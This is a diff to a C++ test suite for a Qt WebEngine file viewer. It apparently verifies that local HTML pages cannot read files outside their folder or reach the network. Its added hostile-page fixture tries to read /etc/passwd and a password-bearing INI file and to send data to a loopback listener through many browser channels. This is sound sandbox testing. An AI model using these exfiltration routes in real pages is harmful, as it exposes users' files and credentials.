@@ -1,8 +1,10 @@
 // The file viewer: local files in its embedded browser, shown as a browser shows them.
 #include "support/VellixTest.h"
 
+#include "course/CataloguePage.h"
 #include "host/ScriptWindow.h"
 #include "platform/DosPath.h"
+#include "platform/Prefix.h"
 #include "viewer/frmView.h"
 
 #include <QEventLoop>
@@ -12,7 +14,10 @@
 #include <QPdfWriter>
 #include <QProcess>
 #include <QSignalSpy>
+#include <QTcpServer>
+#include <QTest>
 #include <QTimer>
+#include <QUdpSocket>
 #include <QWebEnginePage>
 #include <QWebEngineView>
 
@@ -27,6 +32,72 @@ namespace {
 constexpr int LoadWaitMs = 120000;
 
 const QString Page = u"H:\\my pages\\lesson 1.htm"_s;
+
+// A page that tries every way out: reading files near and far, and reaching a listener on
+// loopback (PORT) by every kind of request, socket, form, navigation, worker and peer
+// connection. It writes what its reads gave into #reads, and marks the body done at the end,
+// after its attempts to leave.
+const char HostilePage[] = R"(<html><head><title>Hostile</title>
+<link rel=stylesheet href="hostile_files/style.css">
+<link rel=stylesheet href="http://127.0.0.1:PORT/style">
+<link rel=prefetch href="http://127.0.0.1:PORT/prefetch">
+<link rel=preconnect href="http://127.0.0.1:PORT/">
+<meta http-equiv=refresh content="1;url=http://127.0.0.1:PORT/refresh">
+</head><body>
+<img src="hostile_files/picture.png"><img src="http://127.0.0.1:PORT/picture">
+<iframe src="ftp://127.0.0.1:PORT/frame"></iframe>
+<form name=out method=post action="http://127.0.0.1:PORT/form"><input name=a value=b></form>
+<div id=reads></div>
+<script>
+var reads = [];
+function note(text) {
+    reads.push(text);
+    document.getElementById('reads').textContent = reads.sort().join(' ');
+}
+function read(name, url) {
+    try {
+        var request = new XMLHttpRequest();
+        request.open('GET', url, false);
+        request.send();
+        note(name + (request.status === 200 || request.responseText ? ':read' : ':refused'));
+    } catch (e) {
+        note(name + ':refused');
+    }
+}
+function attempt(route) {
+    try { route(); } catch (e) {}
+}
+read('passwd', 'file:///etc/passwd');
+read('ini', 'file://INI');
+read('ini-beside', '../../prefix/drive_c/windows/Dovrelle.ini');
+read('own', 'hostile_files/notes.txt');
+fetch('file:///etc/passwd').then(function () { note('fetch:read'); },
+                                 function () { note('fetch:refused'); });
+attempt(function () {
+    var worker = new SharedWorker(URL.createObjectURL(new Blob([
+        "onconnect = function (e) { var port = e.ports[0];"
+        + "fetch('file:///etc/passwd').then(function () { port.postMessage('worker:read'); },"
+        + " function () { port.postMessage('worker:refused'); });"
+        + "fetch('http://127.0.0.1:PORT/worker', {mode: 'no-cors'}); };"])));
+    worker.port.onmessage = function (e) { note(e.data); };
+});
+attempt(function () { new WebSocket('ws://127.0.0.1:PORT/socket'); });
+attempt(function () { fetch('http://127.0.0.1:PORT/fetch', {mode: 'no-cors'}).catch(function () {}); });
+attempt(function () { navigator.sendBeacon('http://127.0.0.1:PORT/beacon', 'secret'); });
+attempt(function () { new EventSource('http://127.0.0.1:PORT/events'); });
+attempt(function () { window.open('http://127.0.0.1:PORT/window'); });
+attempt(function () { new WebTransport('https://127.0.0.1:PORT/transport').ready.catch(function () {}); });
+attempt(function () {
+    var peer = new RTCPeerConnection({iceServers: [
+        {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'secret', credential: 'x'},
+        {urls: 'stun:127.0.0.1:PORT'}]});
+    peer.createDataChannel('out');
+    peer.createOffer().then(function (offer) { peer.setLocalDescription(offer); });
+});
+setTimeout(function () { document.forms.out.submit(); }, 300);
+setTimeout(function () { location.href = 'http://127.0.0.1:PORT/location'; }, 600);
+setTimeout(function () { document.body.dataset.done = 'yes'; }, 2000);
+</script></body></html>)";
 
 } // namespace
 
@@ -114,7 +185,9 @@ TEST_F(ViewerTest, ShowsPagesTextAndPdfAsABrowserDoes)
         SCOPED_TRACE(c.dosPath.toStdString());
         EXPECT_EQ(show(c.dosPath), true);
         EXPECT_EQ(view->windowTitle(), u"View File - "_s + c.dosPath);
-        EXPECT_EQ(browser->url(), QUrl::fromLocalFile(Platform::DosPath::toLinux(c.dosPath)));
+        // Under the viewer's own scheme: the page has no file:// origin.
+        EXPECT_EQ(browser->url().scheme(), u"vellix-view"_s);
+        EXPECT_EQ(browser->url().path(), Platform::DosPath::toLinux(c.dosPath));
         EXPECT_EQ(evaluate(c.script), c.expected);
     }
 }
@@ -165,12 +238,120 @@ TEST_F(ViewerTest, HostScriptReadsTheModalWindow)
 }
 
 // A host that made its application before it loaded the library, as a plugin loader does.
-TEST_F(ViewerTest, LibraryLoadedAfterTheApplicationShowsPages)
+// One that had started a browser of its own by then leaves the viewer without its scheme:
+// the viewer shows no page rather than an unsealed one.
+TEST_F(ViewerTest, LibraryLoadedAfterTheApplicationShowsPagesSealedOrNotAtAll)
 {
-    QProcess host;
-    host.start(QStringLiteral(VELLIX_LATE_HOST), {QStringLiteral(VELLIX_LATE_PLUGIN), Page});
-    ASSERT_TRUE(host.waitForFinished(LoadWaitMs));
-    EXPECT_EQ(host.exitStatus(), QProcess::NormalExit);
-    EXPECT_EQ(host.exitCode(), 0) << host.readAllStandardError().toStdString();
-    EXPECT_EQ(host.readAllStandardOutput(), "Lesson one\n");
+    struct Case
+    {
+        QStringList options;
+        QByteArray title;
+    };
+    const Case cases[] = {
+        {{}, "Lesson one\n"},
+        {{u"--browser-first"_s},
+         "The file \"" + Page.toUtf8() +
+             "\" cannot be shown: the viewer was loaded after the program had started a browser "
+             "of its own.\n"},
+    };
+    for (const Case &c : cases) {
+        SCOPED_TRACE(c.options.join(u' ').toStdString());
+        QProcess host;
+        host.start(QStringLiteral(VELLIX_LATE_HOST),
+                   QStringList{QStringLiteral(VELLIX_LATE_PLUGIN), Page} + c.options);
+        ASSERT_TRUE(host.waitForFinished(LoadWaitMs));
+        EXPECT_EQ(host.exitStatus(), QProcess::NormalExit);
+        EXPECT_EQ(host.exitCode(), 0) << host.readAllStandardError().toStdString();
+        EXPECT_EQ(host.readAllStandardOutput(), c.title);
+    }
+}
+
+// The hostile page: the listener hears nothing, the reads fail but for the page's own file,
+// and the page still shows, with its companion files.
+TEST_F(ViewerTest, PageReadsNothingBeyondItsFolderAndReachesNoNetwork)
+{
+    QTcpServer listener;
+    ASSERT_TRUE(listener.listen(QHostAddress::LocalHost));
+    QUdpSocket datagrams; // peer connections and WebTransport speak UDP
+    ASSERT_TRUE(datagrams.bind(QHostAddress::LocalHost, listener.serverPort()));
+    int heard = 0;
+    QObject::connect(&listener, &QTcpServer::newConnection, [&] { ++heard; });
+    QObject::connect(&datagrams, &QUdpSocket::readyRead, [&] { ++heard; });
+
+    const QString ini = writeFile(Platform::Prefix::windowsFolder() + u"/Dovrelle.ini"_s,
+                                  "[Login]\r\npassword=enciphered\r\n");
+    writeFile(homePath(u"my pages/hostile_files/notes.txt"_s), "notes");
+    writeFile(homePath(u"my pages/hostile_files/style.css"_s), "body { color: rgb(1, 2, 3) }");
+    QFile::copy(homePath(u"my pages/picture.png"_s),
+                homePath(u"my pages/hostile_files/picture.png"_s));
+    writeFile(homePath(u"my pages/hostile.htm"_s),
+              QByteArray(HostilePage)
+                  .replace("PORT", QByteArray::number(listener.serverPort()))
+                  .replace("INI", ini.toUtf8()));
+
+    ASSERT_EQ(show(u"H:\\my pages\\hostile.htm"_s), true);
+    // The page marks itself done two seconds after it began.
+    EXPECT_TRUE(QTest::qWaitFor(
+        [&] { return evaluate(u"document.body.dataset.done"_s) == u"yes"_s; }, 30000));
+    QTest::qWait(500); // for anything still on its way
+
+    EXPECT_EQ(heard, 0);
+    EXPECT_EQ(evaluate(u"document.getElementById('reads').textContent"_s),
+              u"fetch:refused ini-beside:refused ini:refused own:read passwd:refused "
+              "worker:refused"_s);
+    // Still the page, with its own picture and style sheet.
+    EXPECT_EQ(browser->title(), u"Hostile"_s);
+    EXPECT_EQ(evaluate(u"document.images[0].naturalWidth + '|' + "
+                       "getComputedStyle(document.body).color"_s),
+              u"3|rgb(1, 2, 3)"_s);
+}
+
+// Links lead to the files of the page's folder; any other link leaves the page where it is.
+TEST_F(ViewerTest, LinksOpenFilesOfThePageFolderOnly)
+{
+    writeFile(homePath(u"my pages/lesson 1_files/next.htm"_s), "<title>Next</title>");
+    writeFile(homePath(u"elsewhere.htm"_s), "<title>Elsewhere</title>");
+    writeFile(homePath(u"my pages/links.htm"_s),
+              "<title>Links</title><a id=next href='lesson 1_files/next.htm'>next</a>"
+              "<a id=out href='../elsewhere.htm'>out</a>"
+              "<a id=web href='http://127.0.0.1:9/'>web</a>");
+    struct Case
+    {
+        QString link;
+        QString title;
+    };
+    const Case cases[] = {
+        {u"out"_s, u"Links"_s},
+        {u"web"_s, u"Links"_s},
+        {u"next"_s, u"Next"_s},
+    };
+    for (const Case &c : cases) {
+        SCOPED_TRACE(c.link.toStdString());
+        ASSERT_EQ(show(u"H:\\my pages\\links.htm"_s), true);
+        QSignalSpy loaded(browser, &QWebEngineView::loadFinished);
+        evaluate(u"document.getElementById('%1').click()"_s.arg(c.link));
+        loaded.wait(c.title == u"Links"_s ? 1000 : LoadWaitMs);
+        EXPECT_EQ(browser->title(), c.title);
+    }
+}
+
+// The catalogue's pop-up switch keeps the reader's choice in a cookie: used unticked, the page
+// shows it unticked when it is loaded again; used ticked, ticked.
+TEST_F(ViewerTest, CataloguePopUpSwitchKeepsTheReadersChoice)
+{
+    CataloguePage catalogue(
+        {u"Spring Archive - Biology"_s, u"School - BIO"_s, u"A. Teacher"_s, u"(c)"_s});
+    catalogue.AppendColumn(u"March_2007"_s, nullptr);
+    writeFile(homePath(u"my pages/index.htm"_s), catalogue.Finish().toLatin1());
+    const QString index = u"H:\\my pages\\index.htm"_s;
+
+    ASSERT_EQ(show(index), true);
+    EXPECT_EQ(evaluate(u"document.f1.sp.checked"_s), u"true"_s); // no choice made yet
+    for (const bool ticked : {false, true, false}) {
+        SCOPED_TRACE(ticked);
+        evaluate(u"document.f1.sp.checked = %1; doPopup('March_2007/a.htm')"_s.arg(
+            ticked ? u"true"_s : u"false"_s));
+        ASSERT_EQ(show(index), true);
+        EXPECT_EQ(evaluate(u"document.f1.sp.checked"_s), ticked ? u"true"_s : u"false"_s);
+    }
 }
